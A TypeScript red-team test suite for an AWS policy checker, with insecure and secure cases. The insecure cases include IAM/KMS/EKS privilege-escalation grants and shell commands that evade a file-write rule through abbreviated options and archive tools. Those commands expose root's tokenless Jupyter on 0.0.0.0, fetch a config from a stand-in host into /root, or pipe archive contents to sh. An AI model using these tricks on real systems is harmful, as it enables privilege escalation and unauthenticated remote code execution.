// Red-team round 55 on the AWS level (fresh eyes) on the committed stacks. First half: the IAM/KMS/DynamoDB/STS/EKS
// access level of prod, dev, cross-account, basil, curity, trust-domain and pod-identity: eks:CreatePodIdentityAssociation
// / UpdatePodIdentityAssociation with iam:PassRole of the pod-identity signer, the pod-identity trust's
// kubernetes-service-account as StringLike, DynamoDB ExportTableToPointInTime, ssm:StartSession on the caller's
// instances, kms:ReEncryptFrom on basil keys, trust-domain CreateGrant without conditions; secure neighbours: EKS
// read-only (DescribePodIdentityAssociation/ListPodIdentityAssociations/DescribeCluster), dev sandbox table exports,
// ec2:DescribeInstanceStatus in account B.
// Second half: round 54's viewing rule on the caller's instance of account B (seed 003): xargs long-option prefixes
// (--arg=, --arg-file LIST), tar --dir/--to-com prefixes, TAR_OPTIONS=--directory=/root, `env TAR_OPTIONS=-P`,
// PIP_TARGET in a command's own assignment, wget --output-d= / --execute prefixes, zstd --output-dir-flat, python3 -m
// zipfile -e into /root, bzip2 -dkf on /root files, dpkg-deb -x into /; read-only neighbours in /root (tar --list
// --file, unzstd --output-dir-flat to /srv, python3 -m zipfile -e into /srv, dpkg-deb -c, xargs -a LIST sha256sum, xz
// -l/bzip2 -t, wget --spider with --execute).
// Misses (2 insecure, 4 secure; the 2 insecure fixed in round 55, the 4 secure fixed later in round 55 by archiverUse):
// - insecure: `xargs --arg=LIST sed -i` (getopt_long unique prefix of --arg-file); `xargs -ra LIST sed -i` (-a bundled
//   after -r). Both edit what /opt/seed/configs.list names, as round 54's `xargs -a LIST` fix.
// - secure refused (read-only listers in /root, failed closed as unknown programs): `dpkg-deb -c`, `ar t`,
//   `unsquashfs -l`, `rpm2cpio PKG | cpio -t`.
import { describeVariants, find, Resources, StackCase } from "./support";
import { ACCOUNT, allow, opsRole } from "./awsCaseBuilders";
import { KEPT, WRITTEN, loopbackJupyter } from "./callerInstanceBuilders";
import { editDoc } from "./variantBuilders";

const ROLE = "aws:iam/role:Role";
const A = ACCOUNT.prod;
const PI_SIGNER = `arn:aws:iam::${A}:role/custody-pod-identity-signer`;
const PI_CLUSTER = `arn:aws:eks:eu-west-1:${A}:cluster/prod-validators`;

const trustOf = (r: Resources, role: string, edit: (d: { Statement: Record<string, unknown>[] }) => void) =>
    editDoc(find(r, ROLE, role), "assumeRolePolicy", edit);

/** Cloud-config writing root's Jupyter config (ip localhost, empty token) and `files`, then `runcmd`, then jupyter lab. */
const EC2 = "arn:aws:ec2:us-east-1:777777777777:instance/*";
const URL = "https://seed.example.com/jupyter_server_config.py";

const insecure: StackCase[] = [
    // EKS user guide, "Assign an IAM role to a Kubernetes service account" (Pod Identity): creating an association
    // needs eks:CreatePodIdentityAssociation and iam:PassRole of the role; any ServiceAccount then gets its credentials.
    {
        name: "pod-identity: an ops role may eks:CreatePodIdentityAssociation on prod-validators and iam:PassRole the signer role",
        stack: "pod-identity",
        refused: /rt55-pia-create/,
        edit: r =>
            opsRole(r, "pod-identity", A, "rt55-pia-create", [
                allow("eks:CreatePodIdentityAssociation", PI_CLUSTER),
                allow("iam:PassRole", PI_SIGNER),
            ]),
    },
    {
        name: "pod-identity: an ops role may eks:UpdatePodIdentityAssociation on `podidentityassociation/prod-validators/*` and iam:PassRole the signer",
        stack: "pod-identity",
        refused: /rt55-pia-update/,
        edit: r =>
            opsRole(r, "pod-identity", A, "rt55-pia-update", [
                allow(
                    "eks:UpdatePodIdentityAssociation",
                    `arn:aws:eks:eu-west-1:${A}:podidentityassociation/prod-validators/*`,
                ),
                allow("iam:PassRole", PI_SIGNER, {
                    Condition: { StringEquals: { "iam:PassedToService": "pods.eks.amazonaws.com" } },
                }),
            ]),
    },
    // EKS user guide, "Pod Identity session tags": kubernetes-service-account is the pod's ServiceAccount name.
    {
        name: "pod-identity: the signer's trust as StringLike kubernetes-service-account = `containment-chamber*`",
        stack: "pod-identity",
        refused: /./,
        edit: r =>
            trustOf(r, "signer-role", d => {
                for (const s of d.Statement) {
                    const c = s.Condition as Record<string, Record<string, string>> | undefined;
                    const key =
                        c && Object.keys(c.StringEquals ?? {}).find(k => k.endsWith("kubernetes-service-account"));
                    if (!c || !key) continue;
                    c.StringLike = { ...(c.StringLike ?? {}), [key]: `${c.StringEquals[key]}*` };
                    delete c.StringEquals[key];
                }
            }),
    },
    {
        name: "pod-identity: the signer's trust drops the kubernetes-namespace pin (any namespace's containment-chamber)",
        stack: "pod-identity",
        refused: /./,
        edit: r =>
            trustOf(r, "signer-role", d => {
                for (const s of d.Statement) {
                    const c = s.Condition as Record<string, Record<string, string>> | undefined;
                    const key = c && Object.keys(c.StringEquals ?? {}).find(k => k.endsWith("kubernetes-namespace"));
                    if (c && key) delete c.StringEquals[key];
                }
            }),
    },
    // DynamoDB developer guide, "DynamoDB data export to Amazon S3": the export writes every item to the bucket.
    {
        name: "prod: an ops role may dynamodb:ExportTableToPointInTime on the keystore into its own bucket",
        stack: "prod",
        refused: /rt55-export/,
        edit: r =>
            opsRole(r, "prod", A, "rt55-export", [
                allow(
                    "dynamodb:ExportTableToPointInTime",
                    `arn:aws:dynamodb:eu-west-1:${A}:table/custody-prod-keystore`,
                ),
                allow(["s3:PutObject", "s3:GetObject", "s3:AbortMultipartUpload"], "arn:aws:s3:::rt55-exports/*"),
            ]),
    },
    // Systems Manager user guide, "Start a session": a shell as ssm-user (sudo) on the instance; its role's credentials.
    {
        name: "cross-account: an ops role of account B may ssm:StartSession on `instance/*` (AWS-StartInteractiveCommand)",
        stack: "cross-account",
        refused: /rt55-ssm-session/,
        edit: r =>
            opsRole(
                r,
                "cross-account",
                "777777777777",
                "rt55-ssm-session",
                [allow("ssm:StartSession", [EC2, "arn:aws:ssm:us-east-1::document/AWS-StartInteractiveCommand"])],
                "cross-account-caller",
            ),
    },
    // KMS developer guide, "ReEncrypt": ReEncryptFrom on the source key decrypts under it (the plaintext re-encrypted
    // under a key the caller holds, then decrypted there).
    {
        name: "basil: an ops role may kms:ReEncryptFrom on `key/*` and kms:ReEncryptTo/Decrypt on its own key",
        stack: "basil",
        refused: /rt55-reencrypt/,
        edit: r =>
            opsRole(r, "basil", ACCOUNT.basil, "rt55-reencrypt", [
                allow("kms:ReEncryptFrom", `arn:aws:kms:*:${ACCOUNT.basil}:key/*`),
                allow(["kms:ReEncryptTo", "kms:Decrypt"], "arn:aws:kms:us-east-1:999999999999:key/rt55-own"),
            ]),
    },
    {
        name: "curity: an ops role may dynamodb:Query/GetItem on `table/curity-*/index/*` (the tables' indexes)",
        stack: "curity",
        refused: /rt55-index/,
        edit: r =>
            opsRole(r, "curity", ACCOUNT.curity, "rt55-index", [
                allow(
                    ["dynamodb:Query", "dynamodb:Scan"],
                    `arn:aws:dynamodb:*:${ACCOUNT.curity}:table/curity-*/index/*`,
                ),
            ]),
    },
    // Caller's instance: the viewing rule.
    // xargs(1): GNU getopt_long accepts a unique prefix of a long option (--arg for --arg-file).
    // Was a MISS (fixed in round 55): insecure accepted: GNU xargs parses with getopt_long, which takes `--arg` as the unique prefix of --arg-file (getopt_long(3): "Long option names may be abbreviated if the abbreviation is unique"; xargs has no other long option starting `arg`), so sed -i edits the files /opt/seed/configs.list names (/root/.jupyter/jupyter_server_config.py: ip 0.0.0.0) as round 54's `xargs -a LIST` does; the xargs reader matches only the full `--arg-file`. Docs: manpages.debian.org getopt_long(3), gnu.org findutils xargs-options.
    {
        name: `cross-account: ${WRITTEN} \`cd /srv && xargs --arg=LIST sed -i ...\` (abbreviated --arg-file)`,
        stack: "cross-account",
        refused: /rt55-xargs-prefix/,
        edit: loopbackJupyter("rt55-xargs-prefix", [
            "cd /srv && xargs --arg=/opt/seed/configs.list sed -i 's/localhost/0.0.0.0/'",
        ]),
    },
    {
        name: `cross-account: ${WRITTEN} \`cd /srv && xargs -a/opt/seed/configs.list sed -i ...\` (glued -a)`,
        stack: "cross-account",
        refused: /rt55-xargs-glued/,
        edit: loopbackJupyter("rt55-xargs-glued", [
            "cd /srv && xargs -a/opt/seed/configs.list sed -i 's/localhost/0.0.0.0/'",
        ]),
    },
    {
        name: `cross-account: ${WRITTEN} \`cd /srv && tar -xf NOTES --dir=/root\` (abbreviated --directory)`,
        stack: "cross-account",
        refused: /rt55-tar-dir/,
        edit: loopbackJupyter("rt55-tar-dir", ["cd /srv && tar -xf /opt/seed/notes.tar --dir=/root"]),
    },
    {
        name: `cross-account: ${WRITTEN} \`tar -xf NOTES -C /srv/notes --to-com=sh\` (abbreviated --to-command)`,
        stack: "cross-account",
        refused: /rt55-tar-tocom/,
        edit: loopbackJupyter("rt55-tar-tocom", ["tar -xf /opt/seed/notes.tar -C /srv/notes --to-com=sh"]),
    },
    {
        name: `cross-account: ${WRITTEN} \`export TAR_OPTIONS=--directory=/root\`, then \`cd /srv && tar -xf NOTES\``,
        stack: "cross-account",
        refused: /rt55-tar-options-dir/,
        edit: loopbackJupyter("rt55-tar-options-dir", [
            "export TAR_OPTIONS=--directory=/root",
            "cd /srv && tar -xf /opt/seed/notes.tar",
        ]),
    },
    {
        name: `cross-account: ${WRITTEN} \`env TAR_OPTIONS=-P tar -xf NOTES -C /srv/notes\``,
        stack: "cross-account",
        refused: /rt55-env-tar/,
        edit: loopbackJupyter("rt55-env-tar", ["env TAR_OPTIONS=-P tar -xf /opt/seed/notes.tar -C /srv/notes"]),
    },
    {
        name: `cross-account: ${WRITTEN} \`cd /srv && PIP_TARGET=/root/.jupyter pip3 install --upgrade jupyter-site-config\``,
        stack: "cross-account",
        refused: /rt55-pip-target-env/,
        edit: loopbackJupyter("rt55-pip-target-env", [
            "cd /srv && PIP_TARGET=/root/.jupyter pip3 install --upgrade jupyter-site-config",
        ]),
    },
    {
        name: `cross-account: ${WRITTEN} \`cd /srv && wget -q --output-d=/root/.jupyter/jupyter_server_config.py URL\` (abbreviated)`,
        stack: "cross-account",
        refused: /rt55-wget-prefix/,
        edit: loopbackJupyter("rt55-wget-prefix", [
            `cd /srv && wget -q --output-d=/root/.jupyter/jupyter_server_config.py ${URL}`,
        ]),
    },
    {
        name: `cross-account: ${WRITTEN} \`cd /srv && wget --execute=dir_prefix=/root/.jupyter --exec timestamping=on URL\``,
        stack: "cross-account",
        refused: /rt55-wget-execute/,
        edit: loopbackJupyter("rt55-wget-execute", [
            `cd /srv && wget --execute=dir_prefix=/root/.jupyter --exec timestamping=on ${URL}`,
        ]),
    },
    {
        name: `cross-account: ${WRITTEN} \`cd /srv && unzstd -f --output-dir-flat /root/.jupyter NOTES.zst\``,
        stack: "cross-account",
        refused: /rt55-zstd-flat/,
        edit: loopbackJupyter("rt55-zstd-flat", [
            "cd /srv && unzstd -f --output-dir-flat /root/.jupyter /opt/seed/jupyter_server_config.py.zst",
        ]),
    },
    {
        name: `cross-account: ${WRITTEN} \`cd /srv && python3 -m zipfile -e NOTES.zip /root/.jupyter\``,
        stack: "cross-account",
        refused: /rt55-pyzip-root/,
        edit: loopbackJupyter("rt55-pyzip-root", [
            "cd /srv && python3 -m zipfile -e /opt/seed/notes.zip /root/.jupyter",
        ]),
    },
    {
        name: `cross-account: ${WRITTEN} \`cd /srv && bzip2 -dkf /root/.jupyter/jupyter_server_config.py.bz2\``,
        stack: "cross-account",
        refused: /rt55-bzip2-root/,
        edit: loopbackJupyter("rt55-bzip2-root", ["cd /srv && bzip2 -dkf /root/.jupyter/jupyter_server_config.py.bz2"]),
    },
    {
        name: `cross-account: ${WRITTEN} \`cd /srv && dpkg-deb -x /opt/seed/notes.deb /\` (the package's tree over /)`,
        stack: "cross-account",
        refused: /rt55-dpkg-deb/,
        edit: loopbackJupyter("rt55-dpkg-deb", ["cd /srv && dpkg-deb -x /opt/seed/notes.deb /"]),
    },
    // Was a MISS (fixed in round 55): insecure accepted: `-ra FILE` is -r (--no-run-if-empty) bundled with -a FILE (getopt short-option bundling; GNU xargs(1) -a/--arg-file "Read items from file instead of standard input"), the same read of /opt/seed/configs.list as `xargs -a LIST sed -i`; the reader sees only a word equal to `-a` or starting `-a`. Docs: manpages.debian.org getopt(3), gnu.org findutils xargs-options.
    {
        name: `cross-account: ${WRITTEN} \`cd /srv && xargs -ra LIST sed -i ...\` (-r bundled before -a)`,
        stack: "cross-account",
        refused: /rt55-xargs-bundle/,
        edit: loopbackJupyter("rt55-xargs-bundle", [
            "cd /srv && xargs -ra /opt/seed/configs.list sed -i 's/localhost/0.0.0.0/'",
        ]),
    },
    {
        name: `cross-account: ${WRITTEN} \`cd /root/.jupyter && ar x /opt/seed/notes.a\` (members into the working directory)`,
        stack: "cross-account",
        refused: /rt55-ar-x/,
        edit: loopbackJupyter("rt55-ar-x", ["cd /root/.jupyter && ar x /opt/seed/notes.a"]),
    },
    {
        name: `cross-account: ${WRITTEN} \`cd /srv && unsquashfs -f -d /root/.jupyter NOTES.sqfs\``,
        stack: "cross-account",
        refused: /rt55-unsquashfs/,
        edit: loopbackJupyter("rt55-unsquashfs", ["cd /srv && unsquashfs -f -d /root/.jupyter /opt/seed/notes.sqfs"]),
    },
    // Neighbours of the round-55 fixes (archiverUse: dpkg-deb, ar, unsquashfs, rpm2cpio read by their modes).
    {
        name: `cross-account: ${WRITTEN} \`cd /srv && ar xP /opt/seed/notes.a\` (P keeps members' paths)`,
        stack: "cross-account",
        refused: /rt55n-ar-xp/,
        edit: loopbackJupyter("rt55n-ar-xp", ["cd /srv && ar xP /opt/seed/notes.a"]),
    },
    {
        name: `cross-account: ${WRITTEN} \`cd /srv && dpkg-deb -b /srv/pkg /root/.jupyter/jupyter_server_config.py\``,
        stack: "cross-account",
        refused: /rt55n-dpkg-build/,
        edit: loopbackJupyter("rt55n-dpkg-build", [
            "cd /srv && dpkg-deb -b /srv/pkg /root/.jupyter/jupyter_server_config.py",
        ]),
    },
    {
        name: `cross-account: ${WRITTEN} \`cd /srv && dpkg-deb -R /opt/seed/notes.deb /root/.jupyter\``,
        stack: "cross-account",
        refused: /rt55n-dpkg-raw/,
        edit: loopbackJupyter("rt55n-dpkg-raw", ["cd /srv && dpkg-deb -R /opt/seed/notes.deb /root/.jupyter"]),
    },
    {
        name: `cross-account: ${WRITTEN} \`cd /root/.jupyter && unsquashfs -d . -f NOTES.sqfs\``,
        stack: "cross-account",
        refused: /rt55n-unsquashfs-dot/,
        edit: loopbackJupyter("rt55n-unsquashfs-dot", ["cd /root/.jupyter && unsquashfs -d . -f /opt/seed/notes.sqfs"]),
    },
    {
        name: `cross-account: ${WRITTEN} \`cd /srv && ar --output=/root/.jupyter x /opt/seed/notes.a\``,
        stack: "cross-account",
        refused: /rt55n-ar-output/,
        edit: loopbackJupyter("rt55n-ar-output", ["cd /srv && ar --output=/root/.jupyter x /opt/seed/notes.a"]),
    },
    {
        name: `cross-account: ${WRITTEN} \`cd /srv && rpm2cpio PKG.rpm | cpio -idmu -D /root\``,
        stack: "cross-account",
        refused: /rt55-rpm2cpio/,
        edit: loopbackJupyter("rt55-rpm2cpio", ["cd /srv && rpm2cpio /opt/seed/notes.rpm | cpio -idmu -D /root"]),
    },
    {
        name: `cross-account: ${WRITTEN} writes /etc/seed/curlrc (\`output-dir = /root/.jupyter\`, \`remote-name\`), then \`cd /srv && curl -K /etc/seed/curlrc URL\``,
        stack: "cross-account",
        refused: /rt55-curlrc-dir/,
        edit: loopbackJupyter(
            "rt55-curlrc-dir",
            [`cd /srv && curl -fsSL -K /etc/seed/curlrc ${URL}`],
            [["/etc/seed/curlrc", "output-dir = /root/.jupyter\nremote-name"]],
        ),
    },
];

const secure: StackCase[] = [
    {
        name: "pod-identity: an ops role may eks:DescribePodIdentityAssociation/ListPodIdentityAssociations/DescribeCluster on prod-validators",
        stack: "pod-identity",
        edit: r =>
            opsRole(r, "pod-identity", A, "rt55-s-pia-read", [
                allow(
                    ["eks:DescribePodIdentityAssociation", "eks:ListPodIdentityAssociations", "eks:DescribeCluster"],
                    [PI_CLUSTER, `arn:aws:eks:eu-west-1:${A}:podidentityassociation/prod-validators/*`],
                ),
            ]),
    },
    {
        name: "dev: a developer role may ExportTableToPointInTime `table/dev-sandbox-*` into its own bucket",
        stack: "dev",
        edit: r =>
            opsRole(r, "dev", ACCOUNT.dev, "rt55-s-sandbox-export", [
                allow(
                    "dynamodb:ExportTableToPointInTime",
                    `arn:aws:dynamodb:eu-west-1:${ACCOUNT.dev}:table/dev-sandbox-*`,
                ),
                allow(["s3:PutObject", "s3:GetObject"], "arn:aws:s3:::rt55-sandbox-exports/*"),
            ]),
    },
    {
        name: "cross-account: an ops role of account B may ec2:DescribeInstanceStatus and ssm:DescribeInstanceInformation",
        stack: "cross-account",
        edit: r =>
            opsRole(
                r,
                "cross-account",
                "777777777777",
                "rt55-s-status",
                [allow(["ec2:DescribeInstanceStatus", "ec2:DescribeInstances"], "*")],
                "cross-account-caller",
            ),
    },
    {
        name: `cross-account: ${KEPT} \`cd /root && tar --list --file=NOTES.tar > LIST\``,
        stack: "cross-account",
        edit: loopbackJupyter("rt55-s-tar-list", ["cd /root && tar --list --file=/root/notes.tar > /srv/notes.list"]),
    },
    {
        name: `cross-account: ${KEPT} \`cd /root && unzstd -f --output-dir-flat /srv/notes NOTES.zst\``,
        stack: "cross-account",
        edit: loopbackJupyter("rt55-s-zstd-flat", [
            "cd /root && unzstd -f --output-dir-flat /srv/notes /opt/seed/notes.zst",
        ]),
    },
    {
        name: `cross-account: ${KEPT} \`cd /root && python3 -m zipfile -e NOTES.zip /srv/notes\``,
        stack: "cross-account",
        edit: loopbackJupyter("rt55-s-pyzip", ["cd /root && python3 -m zipfile -e /opt/seed/notes.zip /srv/notes"]),
    },
    // Was a MISS (fixed in round 55): secure refused: dpkg-deb -c/--contents only lists "the filesystem-tree portion" of the archive to standard output (dpkg-deb(1), manpages.ubuntu.com noble); it writes nothing in /root, yet the viewing rule fails closed on dpkg-deb in /root as an unknown program.
    {
        name: `cross-account: ${KEPT} \`cd /root && dpkg-deb -c PKG.deb > LIST\``,
        stack: "cross-account",
        edit: loopbackJupyter("rt55-s-dpkg-c", ["cd /root && dpkg-deb -c /opt/seed/notes.deb > /srv/notes.list"]),
    },
    {
        name: `cross-account: ${KEPT} writes LIST, then \`cd /root && xargs -a LIST sha256sum > SUMS\``,
        stack: "cross-account",
        edit: loopbackJupyter(
            "rt55-s-xargs-sum",
            ["cd /root && xargs -a /etc/seed/configs.list sha256sum > /srv/sums.txt"],
            [["/etc/seed/configs.list", "/srv/notes/a.conf\n/srv/notes/b.conf"]],
        ),
    },
    {
        name: `cross-account: ${KEPT} \`cd /root && xz -l NOTES.xz > LIST && bzip2 -t NOTES.bz2\``,
        stack: "cross-account",
        edit: loopbackJupyter("rt55-s-xz-list", [
            "cd /root && xz -l /root/notes.xz > /srv/notes.list && bzip2 -t /root/notes.bz2",
        ]),
    },
    {
        name: `cross-account: ${KEPT} \`cd /root && wget --spider --execute=robots=off URL\``,
        stack: "cross-account",
        edit: loopbackJupyter("rt55-s-wget-spider", [`cd /root && wget --spider --execute=robots=off ${URL}`]),
    },
    {
        name: `cross-account: ${KEPT} \`export TAR_OPTIONS=--directory=/srv/notes\`, then \`cd /root && tar -xf NOTES\``,
        stack: "cross-account",
        edit: loopbackJupyter("rt55-s-tar-options-dir", [
            "export TAR_OPTIONS=--directory=/srv/notes",
            "cd /root && tar -xf /opt/seed/notes.tar",
        ]),
    },
    {
        name: `cross-account: ${KEPT} \`cd /root && xargs --arg=LIST sha256sum > SUMS\` (abbreviated --arg-file)`,
        stack: "cross-account",
        edit: loopbackJupyter(
            "rt55-s-xargs-prefix",
            ["cd /root && xargs --arg=/etc/seed/configs.list sha256sum > /srv/sums.txt"],
            [["/etc/seed/configs.list", "/srv/notes/a.conf"]],
        ),
    },
    // Was a MISS (fixed in round 55): secure refused: `ar t` displays a table of the archive's members (GNU binutils ar(1): key `t` "Display a table listing the contents of archive") and writes nothing; refused as an unknown program run in /root.
    {
        name: `cross-account: ${KEPT} \`cd /root && ar t PKG.a > LIST\``,
        stack: "cross-account",
        edit: loopbackJupyter("rt55-s-ar-t", ["cd /root && ar t /opt/seed/notes.a > /srv/notes.list"]),
    },
    // Was a MISS (fixed in round 55): secure refused: unsquashfs -l lists the filesystem without unsquashing it (unsquashfs(1): "-l[s] list filesystem, but don't unsquash"); refused as an unknown program run in /root.
    {
        name: `cross-account: ${KEPT} \`cd /root && unsquashfs -l NOTES.sqfs > LIST\``,
        stack: "cross-account",
        edit: loopbackJupyter("rt55-s-unsquashfs-l", [
            "cd /root && unsquashfs -l /opt/seed/notes.sqfs > /srv/notes.list",
        ]),
    },
    // Was a MISS (fixed in round 55): secure refused: rpm2cpio writes a cpio archive to standard output only (rpm2cpio(8): "converts the .rpm file ... to a cpio archive on standard out", linux.die.net/man/8/rpm2cpio) and cpio -t lists it (round 54 accepts `cpio -it` in /root); refused for rpm2cpio in /root.
    {
        name: `cross-account: ${KEPT} \`cd /root && rpm2cpio PKG.rpm | cpio -t > LIST\``,
        stack: "cross-account",
        edit: loopbackJupyter("rt55-s-rpm2cpio-t", [
            "cd /root && rpm2cpio /opt/seed/notes.rpm | cpio -t > /srv/notes.list",
        ]),
    },
    {
        name: `cross-account: ${KEPT} writes /etc/seed/curlrc (\`output-dir = /srv/seed\`, \`remote-name\`), then \`cd /root && curl -K /etc/seed/curlrc URL\``,
        stack: "cross-account",
        edit: loopbackJupyter(
            "rt55-s-curlrc-dir",
            [`cd /root && curl -fsSL -K /etc/seed/curlrc ${URL}`],
            [["/etc/seed/curlrc", "output-dir = /srv/seed\nremote-name"]],
        ),
    },
    // Neighbours of the round-55 fixes: extractions out of /root's working directory, listings in it.
    {
        name: `cross-account: ${KEPT} \`cd /root && ar x /opt/seed/notes.a --output /srv/notes\``,
        stack: "cross-account",
        edit: loopbackJupyter("rt55n-s-ar-output", ["cd /root && ar x --output /srv/notes /opt/seed/notes.a"]),
    },
    {
        name: `cross-account: ${KEPT} \`cd /root && unsquashfs -d /srv/notes NOTES.sqfs\``,
        stack: "cross-account",
        edit: loopbackJupyter("rt55n-s-unsquashfs-d", ["cd /root && unsquashfs -d /srv/notes /opt/seed/notes.sqfs"]),
    },
    {
        name: `cross-account: ${KEPT} \`cd /root && dpkg-deb -x PKG.deb /srv/pkg && dpkg-deb -I PKG.deb > INFO\``,
        stack: "cross-account",
        edit: loopbackJupyter("rt55n-s-dpkg-x", [
            "cd /root && dpkg-deb -x /opt/seed/notes.deb /srv/pkg && dpkg-deb -I /opt/seed/notes.deb > /srv/info",
        ]),
    },
    {
        name: `cross-account: ${KEPT} \`cd /root && ar -tv PKG.a && unsquashfs -lls NOTES.sqfs\``,
        stack: "cross-account",
        edit: loopbackJupyter("rt55n-s-ar-tv", [
            "cd /root && ar -tv /opt/seed/notes.a > /srv/a.list && unsquashfs -lls /opt/seed/notes.sqfs > /srv/b.list",
        ]),
    },
];

describeVariants("red team 55: allowlist on the AWS level", insecure, secure);
